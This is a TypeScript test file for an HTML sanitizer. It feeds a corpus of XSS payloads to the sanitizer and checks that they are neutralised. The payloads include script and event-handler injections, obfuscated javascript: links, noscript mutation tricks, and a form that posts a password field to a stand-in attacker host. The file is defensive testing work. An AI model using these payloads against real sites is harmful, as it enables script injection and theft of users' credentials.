// @vitest-environment jsdom
import DOMPurify from "dompurify";
import { describe, expect, it } from "vitest";
import { testPolicy } from "../links/links.fixture.ts";
import { disarmHandlers, sanitizeHtml } from "./sanitize-html.ts";

const clean = (html: string) => sanitizeHtml(DOMPurify, html, testPolicy);
const parse = (html: string) => {
  const box = document.createElement("div");
  box.innerHTML = clean(html);
  return box;
};

// Each entry must lose everything that could run code, load a frame, submit data or style the page.
const xss: [string, string][] = [
  ["script tag", `<p>hi</p><script>alert(1)</script>`],
  ["script in svg", `<svg><script>alert(1)</script></svg>`],
  ["img onerror", `<img src="x" onerror="alert(1)">`],
  ["svg onload", `<svg onload="alert(1)"><circle r="1"/></svg>`],
  ["body onload", `<body onload="alert(1)"><p>x</p></body>`],
  ["javascript href", `<a href="javascript:alert(1)">x</a>`],
  ["obfuscated javascript href", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ["entity javascript href", `<a href="&#106;avascript:alert(1)">x</a>`],
  ["style tag", `<style>body{display:none}</style><p>x</p>`],
  ["style attribute", `<p style="background:url(javascript:alert(1))">x</p>`],
  ["iframe", `<iframe src="https://evil.example"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["form action", `<form action="https://evil.example/steal"><input name="pw"><button>send</button></form>`],
  ["button formaction", `<button formaction="javascript:alert(1)">x</button>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example">`],
  ["base href", `<base href="https://evil.example/">`],
  ["object", `<object data="https://evil.example/x.swf"></object>`],
  ["embed", `<embed src="https://evil.example/x.swf">`],
  ["data svg image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">`],
  ["math", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["details ontoggle", `<details open ontoggle="alert(1)"><summary>x</summary></details>`],
  ["mutation via noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["area javascript", `<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,1,1"></map>`],
  ["srcset smuggling", `<img src="https://cdn.example/a.png" srcset="javascript:alert(1) 1x">`],
  ["video poster data", `<video poster="data:image/svg+xml,<svg></svg>"></video>`],
];

describe("sanitizeHtml: XSS corpus", () => {
  it.each(xss)("neutralises %s", (_, html) => {
    const out = clean(html);
    expect(out).not.toMatch(/<(script|style|iframe|form|input|button|meta|base|object|embed|svg|math|link|template|noscript)\b/i);
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/javascript:|data:|srcdoc|formaction|style=|srcset/i);
  });

  it("removes hrefs the classifier refuses and keeps the text", () => {
    const box = parse(`<p>Go <a href="javascript:alert(1)">here</a> or <a href="https://evil.example/">there</a>.</p>`);
    expect(box.textContent).toBe("Go here or there.");
    expect(box.querySelectorAll("a[href]")).toHaveLength(0);
  });

  it("opens listed hosts in a new tab without the opener", () => {
    const a = parse(`<a href="https://www.spoint.example/join" target="_self" rel="opener">join</a>`).querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://www.spoint.example/join");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("keeps internal links as paths, also same-origin absolute ones", () => {
    const links = [
      ...parse(`<a href="/hanam/event/main">a</a><a href="https://m.fieldmall.example/hanam/store?x=1" target="_blank">b</a>`).querySelectorAll("a"),
    ];
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["/hanam/event/main", "/hanam/store?x=1"]);
    expect(links.every((a) => !a.hasAttribute("target"))).toBe(true);
  });

  it("keeps tel:, mailto: and in-page anchors", () => {
    const links = [
      ...parse(
        `<a href="tel:1600-0000">call</a><a href="mailto:privacy@mall.example">mail</a><a href="#art5">Article 5</a><h2 id="art5">5</h2>`,
      ).querySelectorAll("a"),
    ];
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["tel:1600-0000", "mailto:privacy@mall.example", "#art5"]);
  });

  it("keeps http(s) and same-origin images, lazily loaded, and drops others", () => {
    const box = parse(
      `<img src="/images/seed/a.svg" alt="a"><img src="https://cdn.example/b.png" alt="b"><img src="images/c.png" alt="c">` +
        `<img src="https://m.fieldmall.example/d.png" alt="d"><img src="data:image/png;base64,iVBORw0KGgo=" alt="e"><img alt="f"><img src="blob:https://m.fieldmall.example/1" alt="g">`,
    );
    const imgs = [...box.querySelectorAll("img")];
    expect(imgs.map((i) => [i.getAttribute("alt"), i.getAttribute("src")])).toEqual([
      ["a", "/images/seed/a.svg"],
      ["b", "https://cdn.example/b.png"],
      ["c", "/images/c.png"],
      ["d", "/d.png"],
    ]);
    expect(imgs.every((i) => i.getAttribute("loading") === "lazy")).toBe(true);
  });

  it("keeps the text and structure of ordinary content", () => {
    const html = `<h3>제1조 (목적)</h3><p>이 약관은 <strong>필드몰</strong>의 서비스 이용 조건을 정합니다.</p><ul><li>하나</li><li>둘</li></ul><table><tr><td>1</td></tr></table>`;
    const box = parse(html);
    expect(box.querySelector("h3")?.textContent).toBe("제1조 (목적)");
    expect(box.querySelector("strong")?.textContent).toBe("필드몰");
    expect(box.querySelectorAll("li")).toHaveLength(2);
    expect(box.querySelector("td")?.textContent).toBe("1");
  });

  it("gives nothing for no HTML", () => {
    expect(sanitizeHtml(DOMPurify, "", testPolicy)).toBe("");
    expect(sanitizeHtml(DOMPurify, null, testPolicy)).toBe("");
  });
});

describe("disarmHandlers", () => {
  it("renames every inline handler of every start tag before parsing, quoted '>' and unquoted values included", () => {
    const html = `<p>on=text stays</p><img alt="a>b" src="x" onerror="alert(1)" ONLOAD='x()'><a href="/x" onclick=go()>on click</a><div onmouseover>y</div>`;
    const out = disarmHandlers(html);
    expect(out).toBe(
      `<p>on=text stays</p><img alt="a>b" src="x" data-disarmed-onerror="alert(1)" data-disarmed-ONLOAD='x()'><a href="/x" data-disarmed-onclick=go()>on click</a><div data-disarmed-onmouseover>y</div>`,
    );
    // Parsed, no element carries a handler.
    const box = document.createElement("div");
    box.innerHTML = out;
    for (const el of box.querySelectorAll("*")) expect([...el.attributes].filter((a) => /^on/i.test(a.name))).toEqual([]);
  });

  it("the sanitizer drops the renamed attributes with the rest", () => {
    expect(clean(`<img src="https://cdn.example/a.png" onerror="alert(1)" alt="a">`)).not.toContain("disarmed");
  });
});
